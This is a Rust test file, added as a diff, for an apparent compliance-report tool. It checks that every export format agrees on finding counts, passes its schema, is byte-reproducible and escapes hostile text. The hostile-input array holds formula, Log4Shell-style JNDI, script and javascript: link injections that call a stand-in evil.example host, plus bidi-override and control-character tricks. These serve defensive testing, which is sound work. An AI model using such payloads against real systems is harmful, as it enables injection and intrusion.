@@ -1,0 +1,460 @@
+//! What is written for other tools: valid where a schema exists, one count everywhere, whatever the text.
+
+use std::collections::BTreeMap;
+use std::fs;
+use std::path::Path;
+
+use calamine::Reader;
+use parquet::file::reader::{FileReader, SerializedFileReader};
+use parquet::record::RowAccessor;
+use regrant::check::Severity;
+use regrant::render::{self, Bundle, FORMATS, Formats, OcsfVersion, When};
+use regrant::report::model::{Assessment, Finding, Standing, State};
+use regrant::run::{self, Conclusive, Demands, Report};
+use serde_json::Value;
+
+use crate::{sample, shared};
+
+/// Text as an attacker would put it into a log.
+const HOSTILE: [&str; 14] = [
+    "=HYPERLINK(\"http://evil.example\",\"x\")",
+    "+1+1",
+    "-2+3",
+    "@everyone",
+    "\t=1",
+    "\r=1",
+    "a,b;\"c\"\r\nd\ne",
+    "before\0after\u{1}",
+    "\u{202e}txt.exe\u{200b}",
+    "<script>alert(1)</script></testcase>]]>|[x](javascript:1)",
+    "${jndi:ldap://evil.example} {0} `rm` *b*",
+    "山田太郎",
+    " ",
+    "",
+];
+
+type Counted = BTreeMap<(Severity, State), u64>;
+
+fn hostile(mut report: Report) -> Report {
+    let text = |number: usize| HOSTILE[number % HOSTILE.len()].to_owned();
+    for (number, finding) in report.findings.iter_mut().enumerate() {
+        finding.subject = text(number);
+        finding.system = text(number + 1);
+        finding.target = text(number + 2);
+        finding.identity = text(number + 3);
+        finding.identity_name = text(number + 4);
+        finding.executor = text(number + 5);
+        finding.approver = text(number + 6);
+        finding.ticket = text(number + 7);
+        finding.because = text(number + 8);
+        finding.source_file = text(number + 9);
+        finding.action = text(number + 10);
+        finding.tier = text(number + 11);
+        finding.evidence.insert(text(number), Value::String(text(number)));
+    }
+    let a = &mut report.assessment;
+    a.run.title = Some(text(9));
+    a.limited_to = Some(text(6));
+    for (number, input) in a.inputs.iter_mut().enumerate() {
+        input.path = format!("{number}{}", text(number));
+    }
+    for (number, story) in a.identities.iter_mut().enumerate() {
+        story.name = text(number);
+        story.story = text(number + 9);
+    }
+    for (number, waiver) in a.waivers.iter_mut().enumerate() {
+        waiver.reason = text(number + 6);
+        waiver.requested_by = text(number + 7);
+        waiver.approved_by = text(number + 9);
+    }
+    for (number, check) in a.checks.iter_mut().enumerate() {
+        check.title = format!("x{}", text(number));
+        check.inconclusive = Some(text(number + 6));
+    }
+    report
+}
+
+/// Every file of the report folder by its format.
+fn all(report: &Report, ocsf: OcsfVersion) -> BTreeMap<&'static str, Vec<u8>> {
+    let home = tempfile::tempdir().expect("a temporary folder");
+    let dest = home.path().join("report");
+    let page = |a: &Assessment, f: &[Finding]| render::html::render(a, f).map_err(|e| e.to_string());
+    let bundle = Bundle {
+        assessment: &report.assessment,
+        findings: &report.findings,
+        rejected: &report.rejected,
+        subjects: None,
+        run_toml: &report.run_toml,
+        mapping_files: Vec::new(),
+        formats: Formats::parse(["all"]).expect("a known word").with_ocsf(ocsf),
+        html: Some(&page),
+    };
+    render::write(&bundle, &dest).unwrap_or_else(|e| panic!("{e}"));
+    let wanted = |when: When| when == When::Always || when == When::Asked;
+    let read = |file: &str| fs::read(dest.join(file)).unwrap_or_else(|e| panic!("{file}: {e}"));
+    let manifest: Value = serde_json::from_slice(&read("manifest.json")).expect("JSON");
+    let listed: Vec<&str> =
+        manifest["files"].as_array().expect("a list").iter().filter_map(|f| f["path"].as_str()).collect();
+    let files: BTreeMap<&str, Vec<u8>> =
+        FORMATS.iter().filter(|f| wanted(f.when)).map(|f| (f.id, read(f.file))).collect();
+    for format in FORMATS.iter().filter(|f| f.when == When::Asked) {
+        assert!(listed.contains(&format.file), "the manifest does not cover {}", format.file);
+    }
+    files
+}
+
+fn json(bytes: &[u8]) -> Value {
+    serde_json::from_slice(bytes).expect("JSON")
+}
+
+fn lines(bytes: &[u8]) -> Vec<Value> {
+    bytes.split(|b| *b == b'\n').filter(|line| !line.is_empty()).map(json).collect()
+}
+
+fn text<'a>(value: &'a Value, member: &str) -> &'a str {
+    value[member].as_str().unwrap_or_else(|| panic!("no {member} in {value}"))
+}
+
+fn severity(word: &str) -> Severity {
+    word.parse().unwrap_or_else(|e| panic!("{e}"))
+}
+
+fn state(word: &str) -> State {
+    match word {
+        "open" => State::Open,
+        "waived" => State::Waived,
+        other => panic!("{other} is no state"),
+    }
+}
+
+fn count(all: impl IntoIterator<Item = (Severity, State)>) -> Counted {
+    let mut counted = Counted::new();
+    for one in all {
+        *counted.entry(one).or_default() += 1;
+    }
+    counted
+}
+
+fn prop<'a>(of: &'a Value, name: &str) -> Option<&'a str> {
+    of["props"].as_array()?.iter().find(|p| p["name"] == name)?["value"].as_str()
+}
+
+/// Elements `name` of our own XML with their attributes, by a reader that knows no more than tags and quotes.
+fn elements(xml: &str, name: &str) -> Vec<BTreeMap<String, String>> {
+    let mut found = Vec::new();
+    for piece in xml.split('<').skip(1) {
+        let (tag, _) = piece.split_once('>').expect("every tag ends: `>` is escaped in text and attributes");
+        let Some(attributes) = tag.strip_prefix(name).filter(|rest| rest.starts_with([' ', '/']) || rest.is_empty())
+        else {
+            continue;
+        };
+        let mut parts = attributes.trim_end_matches('/').split('"');
+        let mut of = BTreeMap::new();
+        while let (Some(key), Some(value)) = (parts.next(), parts.next()) {
+            of.insert(key.trim().trim_end_matches('=').to_owned(), value.to_owned());
+        }
+        found.push(of);
+    }
+    found
+}
+
+/// Findings by severity and state, as each format tells them.
+fn counts(files: &BTreeMap<&str, Vec<u8>>) -> BTreeMap<&'static str, Counted> {
+    let word = |value: &Value| (severity(text(value, "severity")), state(text(value, "state")));
+    let mut told = BTreeMap::new();
+    told.insert("jsonl", count(lines(&files["jsonl"]).iter().map(word)));
+    let mut reader = csv::Reader::from_reader(files["csv"].as_slice());
+    told.insert(
+        "csv",
+        count(reader.records().map(|row| row.expect("a row")).map(|row| (severity(&row[3]), state(&row[4])))),
+    );
+
+    let sarif = json(&files["sarif"]);
+    let results = sarif["runs"][0]["results"].as_array().expect("results");
+    let of_result = |r: &Value| {
+        let suppressed = r["suppressions"].as_array().is_some_and(|s| !s.is_empty());
+        let (severity, state) = word(&r["properties"]);
+        assert_eq!(state == State::Waived, suppressed, "{r}");
+        assert_eq!(r["kind"], "fail");
+        (severity, state)
+    };
+    told.insert("sarif", count(results.iter().map(of_result)));
+
+    let of_event = |event: &Value| {
+        let severity = Severity::ALL[5 - event["severity_id"].as_u64().expect("a number") as usize];
+        (severity, if event["status_id"] == 3 { State::Waived } else { State::Open })
+    };
+    told.insert("ocsf", count(lines(&files["ocsf"]).iter().map(of_event)));
+
+    let oscal = json(&files["oscal"]);
+    let result = &oscal["assessment-results"]["results"][0];
+    let observed = result["observations"].as_array().expect("observations");
+    let of_observation =
+        |o: &Value| Some((severity(prop(o, "severity")?), state(prop(o, "state").expect("both or none"))));
+    told.insert("oscal", count(observed.iter().filter_map(of_observation)));
+
+    let hdf = json(&files["hdf"]);
+    let controls = hdf["profiles"][0]["controls"].as_array().expect("controls");
+    let failed =
+        controls.iter().flat_map(|c| c["results"].as_array().expect("results")).filter(|r| r["status"] == "failed");
+    told.insert("hdf", count(failed.map(word)));
+
+    let xml = std::str::from_utf8(&files["junit"]).expect("UTF-8");
+    let open = elements(xml, "failure").into_iter().map(|e| (severity(&e["type"]), State::Open));
+    let waived = elements(xml, "skipped")
+        .into_iter()
+        .filter_map(|e| Some((severity(e["type"].strip_prefix("waived-")?), State::Waived)));
+    told.insert("junit", count(open.chain(waived)));
+
+    let mut book = calamine::Xlsx::new(std::io::Cursor::new(files["xlsx"].as_slice())).expect("a workbook");
+    let sheet = book.worksheet_range("Findings").expect("a sheet");
+    let cell = |row: &[calamine::Data], at: usize| row[at].to_string();
+    told.insert("xlsx", count(sheet.rows().skip(1).map(|r| (severity(&cell(r, 3)), state(&cell(r, 4))))));
+    let summary = book.worksheet_range("Summary").expect("a sheet");
+    let mut in_summary = Counted::new();
+    for row in summary.rows() {
+        if let Ok(severity) = cell(row, 0).parse::<Severity>() {
+            for (at, state) in [(1, State::Open), (2, State::Waived)] {
+                let number: u64 = cell(row, at).parse().expect("a number");
+                in_summary.entry((severity, state)).or_insert(number);
+            }
+        }
+    }
+    in_summary.retain(|_, number| *number > 0);
+    told.insert("xlsx summary", in_summary);
+    let plan = book.worksheet_range("Action plan").expect("a sheet");
+    told.insert("xlsx action plan", count(plan.rows().skip(1).map(|r| (severity(&cell(r, 1)), State::Open))));
+
+    let mut file = tempfile::tempfile().expect("a file");
+    std::io::Write::write_all(&mut file, &files["parquet"]).expect("it takes everything");
+    let reader = SerializedFileReader::new(file).expect("a file of Parquet");
+    let of_row = |row: parquet::record::Row| {
+        let word = |at: usize| row.get_string(at).expect("text").clone();
+        (severity(&word(3)), state(&word(4)))
+    };
+    told.insert("parquet", count(reader.get_row_iter(None).expect("rows").map(|r| of_row(r.expect("a row")))));
+    told
+}
+
+#[test]
+fn every_export_tells_the_same_counts_as_the_assessment_and_the_exit_code() {
+    for report in [sample(), hostile(sample())] {
+        let files = all(&report, OcsfVersion::V1_6_0);
+        let assessment: Assessment = serde_json::from_slice(&files["assessment"]).expect("an assessment");
+        let mut expected = Counted::new();
+        for (severity, total) in &assessment.totals {
+            expected.insert((*severity, State::Open), total.open);
+            expected.insert((*severity, State::Waived), total.waived);
+        }
+        expected.retain(|_, number| *number > 0);
+        assert!(expected.keys().any(|(_, state)| *state == State::Waived), "the sample has waived findings");
+        let told = counts(&files);
+        assert_eq!(told.len(), 11);
+        for (format, counted) in &told {
+            let open_only = |c: &Counted| -> Counted {
+                c.iter().filter(|((_, state), _)| *state == State::Open).map(|(k, v)| (*k, *v)).collect()
+            };
+            let expected = if *format == "xlsx action plan" { open_only(&expected) } else { expected.clone() };
+            assert_eq!(*counted, expected, "{format}");
+        }
+        for least in Severity::ALL {
+            let demands = Demands { fail_on: Some(least), conclusive: Conclusive::NotRequired, max_rejected: 1.0 };
+            let code = run::ending(&assessment, &demands).code();
+            for (format, counted) in &told {
+                let open = counted.iter().any(|((severity, state), _)| *severity <= least && *state == State::Open);
+                assert_eq!(code == 10, open, "{format} and --fail-on {least} disagree");
+            }
+        }
+        let page = String::from_utf8(files["markdown"].clone()).expect("UTF-8");
+        let open: u64 = assessment.totals.values().map(|t| t.open).sum();
+        let waived: u64 = assessment.totals.values().map(|t| t.waived).sum();
+        assert!(
+            page.contains(&format!("{open} open findings (")) && page.contains(&format!(", {waived} waived, over"))
+        );
+        for (severity, total) in assessment.totals.iter().filter(|(_, total)| total.open > 0) {
+            assert!(page.contains(&format!("{} {}", total.open, severity.as_str())), "{severity}");
+        }
+    }
+}
+
+fn assert_valid(schema: &Path, draft: Option<jsonschema::Draft>, instances: &[Value]) {
+    let text = fs::read_to_string(schema).unwrap_or_else(|e| panic!("{}: {e}", schema.display()));
+    let schema_value: Value = serde_json::from_str(&text).expect("a schema");
+    let mut options = jsonschema::options();
+    if let Some(draft) = draft {
+        options = options.with_draft(draft);
+    }
+    let validator = options.build(&schema_value).unwrap_or_else(|e| panic!("{}: {e}", schema.display()));
+    assert!(!instances.is_empty());
+    assert!(!validator.is_valid(&Value::Array(Vec::new())), "{} admits anything", schema.display());
+    for instance in instances {
+        let wrong: Vec<String> =
+            validator.iter_errors(instance).take(5).map(|e| format!("{}: {e}", e.instance_path())).collect();
+        assert!(wrong.is_empty(), "{}\n{}", schema.display(), wrong.join("\n"));
+    }
+}
+
+#[test]
+fn every_export_is_valid_by_its_schema_whatever_the_text() {
+    let Some(schemas) = shared("schemas") else { return };
+    for report in [sample(), hostile(sample()), Report { findings: Vec::new(), ..sample() }] {
+        for version in OcsfVersion::ALL {
+            let files = all(&report, version);
+            let events = lines(&files["ocsf"]);
+            assert_eq!(events.len(), report.findings.len());
+            for (class, name) in [(2003, "compliance_finding"), (2004, "detection_finding")] {
+                let of_class: Vec<Value> = events.iter().filter(|e| e["class_uid"] == class).cloned().collect();
+                assert!(of_class.iter().all(|e| e["metadata"]["version"] == version.as_str()));
+                let schema = schemas.join(format!("ocsf-{}-{name}.derived.schema.json", version.as_str()));
+                if !events.is_empty() {
+                    assert_valid(&schema, None, &of_class);
+                }
+            }
+            if version == OcsfVersion::default() {
+                assert_valid(&schemas.join("sarif-schema-2.1.0.json"), None, &[json(&files["sarif"])]);
+                let oscal = schemas.join("oscal_assessment-results_schema.json");
+                assert_valid(&oscal, None, &[json(&files["oscal"])]);
+                let hdf = schemas.join("hdf-exec-json.schema.json");
+                assert_valid(&hdf, Some(jsonschema::Draft::Draft7), &[json(&files["hdf"])]);
+                assert_junit(&schemas.join("junit-10.xsd"), &files["junit"]);
+            }
+        }
+    }
+}
+
+/// By `xmllint` where there is one; by what the schema asks for in any case.
+fn assert_junit(xsd: &Path, xml: &[u8]) {
+    let text = std::str::from_utf8(xml).expect("UTF-8");
+    let allowed: fn(char) -> bool = |c| !c.is_control() || c == '\n';
+    assert!(text.chars().all(allowed), "characters that XML does not admit");
+    let mut open: Vec<&str> = Vec::new();
+    for piece in text.split('<').skip(1) {
+        let (tag, _) = piece.split_once('>').expect("every tag ends");
+        let name = tag.split([' ', '/']).next().unwrap_or_default();
+        if tag.starts_with('?') {
+            continue;
+        }
+        if let Some(closed) = tag.strip_prefix('/') {
+            assert_eq!(open.pop(), Some(closed), "tags nest");
+            continue;
+        }
+        let parent = match name {
+            "testsuites" => None,
+            "testsuite" => Some("testsuites"),
+            "testcase" => Some("testsuite"),
+            "failure" | "skipped" => Some("testcase"),
+            other => panic!("the schema knows no <{other}>"),
+        };
+        assert_eq!(open.last().copied(), parent, "<{name}>");
+        if !tag.ends_with('/') {
+            open.push(name);
+        }
+    }
+    assert!(open.is_empty());
+    let suites = elements(text, "testsuite");
+    let cases = elements(text, "testcase");
+    let sum = |name: &str| suites.iter().map(|s| s[name].parse::<usize>().expect("a number")).sum::<usize>();
+    assert_eq!(sum("tests"), cases.len());
+    assert_eq!(sum("failures"), elements(text, "failure").len());
+    assert_eq!(sum("skipped"), elements(text, "skipped").len());
+    let mut names: Vec<_> = cases.iter().map(|c| (c["classname"].clone(), c["name"].clone())).collect();
+    names.sort();
+    names.dedup();
+    assert_eq!(names.len(), cases.len(), "GitLab drops cases of the same name");
+
+    let mut file = tempfile::NamedTempFile::new().expect("a file");
+    std::io::Write::write_all(&mut file, xml).expect("it takes everything");
+    match std::process::Command::new("xmllint").arg("--noout").arg("--schema").arg(xsd).arg(file.path()).output() {
+        Ok(done) => assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stderr)),
+        Err(_) => println!("skipped: xmllint is not installed"),
+    }
+}
+
+#[test]
+fn what_cannot_be_concluded_is_a_pass_in_no_export() {
+    let report = sample();
+    let files = all(&report, OcsfVersion::default());
+    let mut open: Vec<&str> = Vec::new();
+    let hdf = json(&files["hdf"]);
+    let controls = hdf["profiles"][0]["controls"].as_array().expect("controls");
+    for (check, control) in report.assessment.checks.iter().zip(controls) {
+        let statuses: Vec<&str> =
+            control["results"].as_array().expect("results").iter().map(|r| text(r, "status")).collect();
+        assert!(!statuses.is_empty());
+        if check.counts.indeterminate > 0 || check.verdict == Standing::CannotConclude {
+            open.push(&check.id);
+            assert!(!statuses.contains(&"passed"), "{}", check.id);
+        }
+    }
+    assert!(!open.is_empty(), "the sample leaves something open");
+    let xml = std::str::from_utf8(&files["junit"]).expect("UTF-8");
+    let sarif = json(&files["sarif"]);
+    let notes = sarif["runs"][0]["invocations"][0]["toolExecutionNotifications"].as_array().expect("a list");
+    let oscal = json(&files["oscal"]);
+    let observed = oscal["assessment-results"]["results"][0]["observations"].as_array().expect("observations");
+    for id in open {
+        assert!(xml.contains(&format!("{id}: cannot conclude")), "{id}");
+        assert!(notes.iter().any(|n| n["associatedRule"]["id"] == *id), "{id}");
+        assert!(observed.iter().any(|o| prop(o, "check") == Some(id) && prop(o, "verdict").is_some()), "{id}");
+    }
+    let findings = oscal["assessment-results"]["results"][0]["findings"].as_array().expect("findings");
+    let catalogue = report.assessment.frameworks.iter().find(|f| f.id == "nist-800-53-r5").expect("it is shipped");
+    for requirement in &catalogue.requirements {
+        let found =
+            findings.iter().any(|f| prop(f, "requirement") == Some(&format!("nist-800-53-r5:{}", requirement.id)));
+        let concluded =
+            matches!(requirement.verdict, Standing::Fail | Standing::Pass) && !requirement.direct.is_empty();
+        assert_eq!(found, concluded, "{}", requirement.id);
+    }
+}
+
+#[test]
+fn exports_are_the_same_bytes_again_and_name_nothing_of_this_run() {
+    let (first, second) = (all(&sample(), OcsfVersion::V1_8_0), all(&sample(), OcsfVersion::V1_8_0));
+    for (format, bytes) in &first {
+        assert!(*bytes == second[format], "{format} differs from run to run");
+    }
+}
+
+#[test]
+fn markdown_holds_hostile_text_in_code() {
+    let files = all(&hostile(sample()), OcsfVersion::default());
+    let page = String::from_utf8(files["markdown"].clone()).expect("UTF-8");
+    for line in page.lines() {
+        let outside = outside_code(line).replace("\\]", "").replace("\\$", "");
+        for never in ["<script", "@everyone", "](javascript:", "${jndi", "\u{202e}", "\u{200b}"] {
+            assert!(!outside.contains(never), "{never} stands outside code in: {line}");
+        }
+    }
+    assert!(page.chars().all(|c| !c.is_control() || c == '\n'));
+    // Tables keep their columns: a bar of the data ends no cell.
+    let mut table = Vec::new();
+    for line in page.lines().chain([""]) {
+        if line.starts_with('|') {
+            table.push(line.replace("\\|", "").matches('|').count());
+        } else if !table.is_empty() {
+            assert!(table.iter().all(|bars| *bars == table[0]), "{line}");
+            table.clear();
+        }
+    }
+}
+
+/// A line without its code spans.
+fn outside_code(line: &str) -> String {
+    let mut out = String::new();
+    let mut rest = line;
+    while let Some(start) = rest.find('`') {
+        if rest[..start].ends_with('\\') {
+            out.push_str(&rest[..=start]);
+            rest = &rest[start + 1..];
+            continue;
+        }
+        out.push_str(&rest[..start]);
+        let fence_length = rest[start..].chars().take_while(|c| *c == '`').count();
+        let after = &rest[start + fence_length..];
+        let fence = "`".repeat(fence_length);
+        let end = after.find(&fence).unwrap_or_else(|| panic!("a span that does not end: {line}"));
+        rest = &after[end + fence_length..];
+    }
+    out + rest
+}
